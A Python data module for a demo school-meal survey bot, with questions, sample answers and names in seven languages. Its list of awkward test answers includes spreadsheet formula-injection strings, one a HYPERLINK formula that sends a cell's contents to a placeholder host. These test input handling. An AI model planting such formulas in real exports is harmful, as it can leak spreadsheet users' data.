"""Texts of the demo bot: questions, answers and names in seven languages, and awkward answers.

Tables only. Every language asks the same questions in the same order, that of
`conversations.PATHS`; a question without options takes free text.
"""

from __future__ import annotations

from typing import NamedTuple


class Question(NamedTuple):
    """One question: its title and, for multiple choice, its options."""

    title: str
    options: tuple[str, ...] = ()


class Language(NamedTuple):
    """What the bot and its participants say in one language.

    `share` is the language's part of the participants, in percent.
    """

    share: int
    given_names: tuple[str, ...]
    family_names: tuple[str, ...]
    questions: tuple[Question, ...]
    answers: tuple[str, ...]


ENGLISH = Language(
    share=22,
    given_names=("Anita", "David", "Grace", "Joseph", "Leela", "Martin", "Nora", "Peter", "Ruth"),
    family_names=("Baker", "D'Costa", "Fernandes", "Hill", "Mathew", "O'Neil", "Thomas", "Wood"),
    questions=(
        Question(
            "Welcome! Who is answering today?\nReply with a number.",
            ("A parent", "A teacher", "A cook", "A pupil", "Someone else"),
        ),
        Question(
            "Which class is the child in?", ("Class 1 or 2", "Classes 3 to 5", "Classes 6 to 8")
        ),
        Question("Was a meal served at school today?", ("Yes", "No", "I do not know")),
        Question("What did the children say about the food?"),
        Question("How did the meal taste?", ("Very good", "Good", "So-so", "Bad")),
        Question(
            "Was there enough food for everyone?", ("More than enough", "Just enough", "Too little")
        ),
        Question("Was the meal on time?", ("On time", "A little late", "Very late")),
        Question("If you could change one thing, what would it be?"),
        Question("Was there clean drinking water?", ("Yes", "Only for some time", "No")),
        Question(
            "Where did the children wash their hands?",
            ("At a tap, with soap", "At a tap, no soap", "From a bucket", "They did not wash"),
        ),
        Question(
            "How many stars for today's meal?",
            ("⭐⭐⭐⭐⭐ Excellent", "⭐⭐⭐⭐ Good", "⭐⭐⭐ Fair", "⭐⭐ Poor", "⭐ Very poor"),
        ),
        Question('Anything else we should know? Write "no" if there is nothing.'),
    ),
    answers=(
        "The rice was soft and warm today.",
        "Too much salt in the lentils.",
        "My daughter finished her plate, which never happens at home!",
        "no",
        "More vegetables please, and less potato.",
        'The little ones call it "yellow soup"; they love it.',
        "The eggs did not come this week.",
        "Good",
        "Plates were wet and still a bit dirty.",
        "We waited until half past one, the gas had run out.",
        "Please give fruit on Fridays, bananas or guava.",
        "It was fine, but my son is allergic to peanuts and nobody asked.",
        "Cook was very kind. Thank you 🙏",
        "The queue is long, the big boys push in front.",
        "Not enough spoons for class 3",
        "They liked it 😋",
        "The milk smelled sour on Tuesday so we threw it away.",
        "Nothing to add, all good.",
    ),
)

HINDI = Language(
    share=28,
    given_names=("अनीता", "अर्जुन", "कविता", "गीता", "दीपक", "पूजा", "मोहन", "रमेश", "सुनीता"),
    family_names=("कुमार", "गुप्ता", "चौहान", "देवी", "मिश्रा", "यादव", "वर्मा", "शर्मा"),
    questions=(
        Question(
            "नमस्ते! आज कौन जवाब दे रहा है?\nकृपया संख्या लिखें।",
            ("माता या पिता", "शिक्षक", "रसोइया", "विद्यार्थी", "कोई और"),
        ),
        Question("बच्चा किस कक्षा में है?", ("कक्षा 1 या 2", "कक्षा 3 से 5", "कक्षा 6 से 8")),
        Question("क्या आज स्कूल में भोजन मिला?", ("हाँ", "नहीं", "पता नहीं")),
        Question("बच्चों ने खाने के बारे में क्या कहा?"),
        Question("भोजन का स्वाद कैसा था?", ("बहुत अच्छा", "अच्छा", "ठीक-ठाक", "खराब")),
        Question("क्या सबके लिए भोजन काफ़ी था?", ("ज़रूरत से ज़्यादा", "बस काफ़ी", "कम पड़ गया")),
        Question("क्या भोजन समय पर मिला?", ("समय पर", "थोड़ी देर से", "बहुत देर से")),
        Question("अगर आप एक चीज़ बदल सकें, तो क्या बदलेंगे?"),
        Question("क्या पीने का साफ़ पानी था?", ("हाँ", "कुछ समय तक ही", "नहीं")),
        Question(
            "बच्चों ने हाथ कहाँ धोए?",
            ("नल पर, साबुन से", "नल पर, बिना साबुन", "बाल्टी से", "हाथ नहीं धोए"),
        ),
        Question(
            "आज के भोजन को कितने तारे देंगे?",
            ("⭐⭐⭐⭐⭐ शानदार", "⭐⭐⭐⭐ अच्छा", "⭐⭐⭐ ठीक", "⭐⭐ कमज़ोर", "⭐ बहुत खराब"),
        ),
        Question("और कुछ बताना चाहेंगे? कुछ न हो तो “नहीं” लिखें।"),
    ),
    answers=(
        "आज की खिचड़ी बहुत अच्छी थी।",
        "दाल में नमक ज़्यादा था",
        "नहीं",
        "बच्चों ने दो बार माँगकर खाया 😋",
        "सब्ज़ी थोड़ी और मिलनी चाहिए।",
        "रोटी ठंडी थी, चावल ठीक थे।",
        "इस हफ़्ते अंडे नहीं आए।",
        "अच्छा",
        "खाना डेढ़ बजे मिला, तब तक बच्चे भूखे थे।",
        "थालियाँ ठीक से धुली नहीं थीं।",
        "शुक्रवार को फल दीजिए, केला या अमरूद।",
        "मेरी बेटी कहती है, “घर से भी अच्छा है!”",
        "रसोइया दीदी बहुत प्यार से खिलाती हैं 🙏",
        "पानी की टंकी साफ़ करवाइए",
        "सब ठीक है, धन्यवाद।",
        "दूध मंगलवार को खट्टा हो गया था।",
        "मिर्च कम डालें, छोटे बच्चे नहीं खा पाते।",
    ),
)

TAMIL = Language(
    share=14,
    given_names=("அருண்", "கவிதா", "செல்வி", "தமிழ்", "பிரியா", "மீனா", "முருகன்", "ராஜா"),
    family_names=("கண்ணன்", "குமார்", "சுந்தரம்", "செல்வம்", "நாதன்", "பாண்டியன்", "ராமன்"),
    questions=(
        Question(
            "வணக்கம்! இன்று யார் பதில் சொல்கிறீர்கள்?\nஎண்ணை அனுப்புங்கள்.",
            ("பெற்றோர்", "ஆசிரியர்", "சமையலர்", "மாணவர்", "வேறு ஒருவர்"),
        ),
        Question(
            "குழந்தை எந்த வகுப்பில் படிக்கிறது?",
            ("1 அல்லது 2", "3 முதல் 5 வரை", "6 முதல் 8 வரை"),
        ),
        Question("இன்று பள்ளியில் உணவு கொடுத்தார்களா?", ("ஆம்", "இல்லை", "தெரியாது")),
        Question("உணவைப் பற்றி குழந்தைகள் என்ன சொன்னார்கள்?"),
        Question("உணவின் சுவை எப்படி இருந்தது?", ("மிக நன்று", "நன்று", "பரவாயில்லை", "மோசம்")),
        Question("எல்லோருக்கும் உணவு போதுமானதாக இருந்ததா?", ("அதிகமாக", "போதுமானது", "போதவில்லை")),
        Question("உணவு நேரத்துக்கு வந்ததா?", ("சரியான நேரம்", "சற்று தாமதம்", "மிகத் தாமதம்")),
        Question("ஒரு விஷயத்தை மாற்றலாம் என்றால், எதை மாற்றுவீர்கள்?"),
        Question("சுத்தமான குடிநீர் இருந்ததா?", ("ஆம்", "சிறிது நேரம் மட்டும்", "இல்லை")),
        Question(
            "குழந்தைகள் எங்கே கை கழுவினார்கள்?",
            ("குழாயில், சோப்புடன்", "குழாயில், சோப்பு இல்லை", "வாளியில்", "கழுவவில்லை"),
        ),
        Question(
            "இன்றைய உணவுக்கு எத்தனை நட்சத்திரம்?",
            ("⭐⭐⭐⭐⭐ அருமை", "⭐⭐⭐⭐ நன்று", "⭐⭐⭐ சுமார்", "⭐⭐ குறைவு", "⭐ மிக மோசம்"),
        ),
        Question("வேறு ஏதாவது சொல்ல வேண்டுமா? இல்லையென்றால் “இல்லை” என எழுதுங்கள்."),
    ),
    answers=(
        "சாம்பார் சாதம் நன்றாக இருந்தது.",
        "உப்பு அதிகம்",
        "இல்லை",
        "முட்டை இந்த வாரம் வரவில்லை.",
        "குழந்தைகள் விரும்பிச் சாப்பிட்டார்கள் 😋",
        "காய்கறி இன்னும் கொஞ்சம் சேர்க்கலாம்.",
        "சாதம் குழைந்து விட்டது, ஆனால் சூடாக இருந்தது.",
        "நன்று",
        "தட்டுகள் சரியாகக் கழுவப்படவில்லை.",
        "மதியம் ஒன்றரை மணிக்குத்தான் உணவு வந்தது.",
        "வெள்ளிக்கிழமை வாழைப்பழம் கொடுங்கள்.",
        "என் மகன் “இன்னும் வேண்டும்” என்று கேட்டான்!",
        "சமையல் அக்காவுக்கு நன்றி 🙏",
        "தண்ணீர்த் தொட்டியைச் சுத்தம் செய்யுங்கள்",
        "காரம் குறைவாக இருந்தால் சின்னக் குழந்தைகள் சாப்பிடுவார்கள்.",
        "எல்லாம் சரி.",
        "வரிசை நீளமாக இருக்கிறது, நேரம் ஆகிறது.",
    ),
)

BENGALI = Language(
    share=12,
    given_names=("অনিতা", "অমিত", "কাকলি", "তপন", "মিতা", "রুমা", "সুব্রত", "সোহেল"),
    family_names=("ঘোষ", "দত্ত", "দাস", "পাল", "বিশ্বাস", "মণ্ডল", "রায়", "সরকার"),
    questions=(
        Question(
            "নমস্কার! আজ কে উত্তর দিচ্ছেন?\nসংখ্যাটি লিখুন।",
            ("মা বা বাবা", "শিক্ষক", "রাঁধুনি", "ছাত্র বা ছাত্রী", "অন্য কেউ"),
        ),
        Question("শিশুটি কোন শ্রেণিতে পড়ে?", ("১ বা ২", "৩ থেকে ৫", "৬ থেকে ৮")),
        Question("আজ স্কুলে কি খাবার দেওয়া হয়েছে?", ("হ্যাঁ", "না", "জানি না")),
        Question("খাবার নিয়ে শিশুরা কী বলল?"),
        Question("খাবারের স্বাদ কেমন ছিল?", ("খুব ভালো", "ভালো", "মোটামুটি", "খারাপ")),
        Question("সবার জন্য কি যথেষ্ট খাবার ছিল?", ("দরকারের বেশি", "ঠিক যথেষ্ট", "কম পড়েছে")),
        Question("খাবার কি সময়মতো এসেছে?", ("সময়মতো", "একটু দেরিতে", "অনেক দেরিতে")),
        Question("একটি জিনিস বদলাতে পারলে কী বদলাতেন?"),
        Question("পরিষ্কার খাবার জল ছিল কি?", ("হ্যাঁ", "কিছুক্ষণ ছিল", "না")),
        Question(
            "শিশুরা কোথায় হাত ধুয়েছে?",
            ("কলে, সাবান দিয়ে", "কলে, সাবান ছাড়া", "বালতি থেকে", "হাত ধোয়নি"),
        ),
        Question(
            "আজকের খাবারকে কত তারা দেবেন?",
            ("⭐⭐⭐⭐⭐ দারুণ", "⭐⭐⭐⭐ ভালো", "⭐⭐⭐ চলনসই", "⭐⭐ দুর্বল", "⭐ খুব খারাপ"),
        ),
        Question("আর কিছু জানাতে চান? না থাকলে “না” লিখুন।"),
    ),
    answers=(
        "আজকের খিচুড়ি খুব ভালো ছিল।",
        "ডালে নুন বেশি",
        "না",
        "শিশুরা দুবার চেয়ে খেয়েছে 😋",
        "সবজি আর একটু বেশি দিলে ভালো হয়।",
        "এই সপ্তাহে ডিম আসেনি।",
        "ভাত ঠান্ডা ছিল, তরকারি ঠিক ছিল।",
        "ভালো",
        "থালাগুলো ঠিকমতো ধোয়া হয়নি।",
        "দেড়টার সময় খাবার এল, ততক্ষণে সবার খিদে পেয়ে গেছে।",
        "শুক্রবারে ফল দিন, কলা বা পেয়ারা।",
        "মেয়ে বলল, “বাড়ির চেয়েও ভালো!”",
        "রান্নার দিদিকে ধন্যবাদ 🙏",
        "জলের ট্যাঙ্কটা পরিষ্কার করান",
        "ঝাল কম দিন, ছোটরা খেতে পারে না।",
        "সব ঠিক আছে।",
        "মঙ্গলবার দুধ টক হয়ে গিয়েছিল।",
    ),
)

SPANISH = Language(
    share=10,
    given_names=("Ana", "Carlos", "Inés", "José", "Lucía", "Núria", "Pablo", "Sofía", "Tomás"),
    family_names=("Díaz", "Fernández", "Gómez", "Ibáñez", "López", "Muñoz", "Núñez", "Peña"),
    questions=(
        Question(
            "¡Hola! ¿Quién responde hoy?\nResponda con un número.",
            ("Madre o padre", "Docente", "Cocina", "Estudiante", "Otra persona"),
        ),
        Question(
            "¿En qué curso está el niño o la niña?", ("1.º o 2.º", "De 3.º a 5.º", "6.º o más")
        ),
        Question("¿Se sirvió comida hoy en la escuela?", ("Sí", "No", "No lo sé")),
        Question("¿Qué dijeron los niños de la comida?"),
        Question("¿Qué tal sabía la comida?", ("Muy bien", "Bien", "Regular", "Mal")),
        Question("¿Alcanzó la comida para todos?", ("Sobró", "Alcanzó justo", "Faltó")),
        Question("¿La comida llegó a tiempo?", ("A tiempo", "Un poco tarde", "Muy tarde")),
        Question("Si pudiera cambiar una sola cosa, ¿cuál sería?"),
        Question("¿Había agua potable limpia?", ("Sí", "Solo un rato", "No")),
        Question(
            "¿Dónde se lavaron las manos los niños?",
            ("En el grifo, con jabón", "En el grifo, sin jabón", "En un balde", "No se lavaron"),
        ),
        Question(
            "¿Cuántas estrellas le da a la comida de hoy?",
            (
                "⭐⭐⭐⭐⭐ Excelente",
                "⭐⭐⭐⭐ Buena",
                "⭐⭐⭐ Regular",
                "⭐⭐ Floja",
                "⭐ Muy mala",
            ),
        ),
        Question("¿Algo más que debamos saber? Escriba «no» si no hay nada."),
    ),
    answers=(
        "El arroz estaba rico y caliente.",
        "Mucha sal en las lentejas.",
        "no",
        "¡Mi hija se lo comió todo!",
        "Más verdura, por favor, y menos papa.",
        "Esta semana no llegaron los huevos.",
        "La sopa estaba fría; el pan, duro.",
        "Bien",
        "Los platos no estaban bien lavados.",
        "Comimos a la una y media, los niños ya tenían hambre.",
        "Que den fruta los viernes: plátano o guayaba.",
        "Mi hijo dice que es «mejor que en casa» 😄",
        "Gracias a las señoras de la cocina 🙏",
        "La fila es muy larga y los grandes empujan.",
        "Faltaron cucharas",
        "Todo bien, gracias.",
        "La leche del martes estaba agria y la tiramos.",
    ),
)

ARABIC = Language(
    share=8,
    given_names=("أحمد", "خالد", "سارة", "عمر", "فاطمة", "ليلى", "مريم", "يوسف"),
    family_names=("الحسن", "الخطيب", "السيد", "العلي", "النجار", "حداد", "منصور"),
    questions=(
        Question(
            "مرحبًا! من يجيب اليوم؟\nأرسل الرقم.",
            ("أحد الوالدين", "معلم", "طباخ", "تلميذ", "شخص آخر"),
        ),
        Question("في أي صف يدرس الطفل؟", ("الصف 1 أو 2", "الصفوف 3 إلى 5", "الصفوف 6 إلى 8")),
        Question("هل قُدمت وجبة في المدرسة اليوم؟", ("نعم", "لا", "لا أعرف")),
        Question("ماذا قال الأطفال عن الطعام؟"),
        Question("كيف كان طعم الوجبة؟", ("جيد جدًا", "جيد", "مقبول", "سيئ")),
        Question("هل كان الطعام كافيًا للجميع؟", ("أكثر من كافٍ", "كافٍ تمامًا", "غير كافٍ")),
        Question("هل وصلت الوجبة في موعدها؟", ("في الموعد", "متأخرة قليلًا", "متأخرة جدًا")),
        Question("لو استطعت تغيير شيء واحد، فما هو؟"),
        Question("هل توفرت مياه شرب نظيفة؟", ("نعم", "لبعض الوقت فقط", "لا")),
        Question(
            "أين غسل الأطفال أيديهم؟",
            ("عند الصنبور، بالصابون", "عند الصنبور، بلا صابون", "من دلو", "لم يغسلوا أيديهم"),
        ),
        Question(
            "كم نجمة تعطي وجبة اليوم؟",
            ("⭐⭐⭐⭐⭐ ممتازة", "⭐⭐⭐⭐ جيدة", "⭐⭐⭐ مقبولة", "⭐⭐ ضعيفة", "⭐ سيئة جدًا"),
        ),
        Question("هل تود إضافة شيء آخر؟ اكتب «لا» إن لم يوجد."),
    ),
    answers=(
        "كان الأرز لذيذًا وساخنًا.",
        "الملح كثير في العدس",
        "لا",
        "أكلت ابنتي كل ما في الصحن!",
        "نريد خضارًا أكثر، من فضلكم.",
        "لم يصل البيض هذا الأسبوع.",
        "الشوربة باردة؛ والخبز يابس.",
        "جيد",
        "الصحون لم تُغسل جيدًا.",
        "وصل الطعام في الواحدة والنصف، والأطفال جائعون.",
        "أعطوهم فاكهة يوم الجمعة: موز أو جوافة.",
        "قال ابني: «أطيب من البيت» 😄",
        "شكرًا للطباخة 🙏",
        "الطابور طويل والكبار يدفعون الصغار.",
        "نظفوا خزان الماء",
        "كل شيء على ما يرام.",
        "كان حليب يوم الثلاثاء حامضًا فرميناه.",
    ),
)

FRENCH = Language(
    share=6,
    given_names=("Aïcha", "Benoît", "Chloé", "Élise", "François", "Hélène", "Moussa", "Zoé"),
    family_names=("Béranger", "Diallo", "Lefèvre", "Mercier", "Noël", "Traoré", "Vallée"),
    questions=(
        Question(
            "Bonjour ! Qui répond aujourd'hui ?\nRépondez par un numéro.",
            ("Un parent", "Un enseignant", "Un cuisinier", "Un élève", "Quelqu'un d'autre"),
        ),
        Question(
            "Dans quelle classe est l'enfant ?", ("1re ou 2e", "De la 3e à la 5e", "6e et plus")
        ),
        Question("Un repas a-t-il été servi à l'école ?", ("Oui", "Non", "Je ne sais pas")),
        Question("Qu'ont dit les enfants du repas ?"),
        Question("Quel goût avait le repas ?", ("Très bon", "Bon", "Moyen", "Mauvais")),
        Question("Y en avait-il assez pour tous ?", ("Plus qu'assez", "Juste assez", "Pas assez")),
        Question(
            "Le repas était-il à l'heure ?", ("À l'heure", "Un peu en retard", "Très en retard")
        ),
        Question("Si vous pouviez changer une seule chose ?"),
        Question("Y avait-il de l'eau potable ?", ("Oui", "Un moment seulement", "Non")),
        Question(
            "Où les enfants se sont-ils lavé les mains ?",
            ("Au robinet, avec savon", "Au robinet, sans savon", "Dans un seau", "Nulle part"),
        ),
        Question(
            "Combien d'étoiles pour le repas ?",
            (
                "⭐⭐⭐⭐⭐ Excellent",
                "⭐⭐⭐⭐ Bon",
                "⭐⭐⭐ Moyen",
                "⭐⭐ Faible",
                "⭐ Très mauvais",
            ),
        ),
        Question("Autre chose à signaler ? Écrivez « non » s'il n'y a rien."),
    ),
    answers=(
        "Le riz était chaud et bien cuit.",
        "Trop de sel dans les lentilles.",
        "non",
        "Ma fille a tout mangé !",
        "Plus de légumes, s'il vous plaît.",
        "Les œufs ne sont pas arrivés cette semaine.",
        "La soupe était froide ; le pain, dur.",
        "Bon",
        "Les assiettes étaient mal lavées.",
        "On a mangé à une heure et demie, les petits avaient faim.",
        "Des fruits le vendredi : banane ou goyave.",
        "Mon fils dit que c'est « meilleur qu'à la maison » 😄",
        "Merci aux cuisinières 🙏",
        "La file est longue, les grands poussent.",
        "Il manquait des cuillères",
        "Rien à dire, tout va bien.",
        "Le lait de mardi était aigre, on l'a jeté.",
    ),
)

LANGUAGES = (ENGLISH, HINDI, TAMIL, BENGALI, SPANISH, ARABIC, FRENCH)

# Free text that breaks careless readers: formulas, quoting, line ends, blanks, look-alikes.
AWKWARD_ANSWERS = (
    "=SUM(1,2)",
    '=HYPERLINK("https://example.invalid/?q="&A1,"open me")',
    "=1+1",
    "+1+1",
    "+91 99999 00001",
    "-5",
    "-12.75",
    "-1+2",
    "- rice\n- eggs\n- fruit",
    "@cmd",
    "@SUM(A1:A9)",
    "\t=2*3",
    '"',
    'She said "no rice left", then left',
    "it's fine; really, it's fine | ok",
    "a,b;c\td",
    "line one\nline two",
    "line one\r\nline two\r\n",
    "old line end\rnext",
    "   blanks before",
    "blanks after   ",
    "   ",
    "",
    "🍛👍",
    "👩‍🍳👨‍👩‍👧‍👦🇮🇳",
    "back\\slash \\n \\",
    "007",
    "1e5",
    "0",
    "null",
    "true",
    "2026-01-05",
    '{"ans1": "x"}',
    "<b>good</b> & cheap",
    "100 % %s {0}",
    "Ω≈ç√ ﬁne e\u0301te\u0301 \u200eltr\u200f",
)

# What people send instead of one of the options.
STRAY_REPLIES = ("9", "hi", "ok", "??", "👍", "start", "1 2", "", "menu", "=1", "0", "all of them")
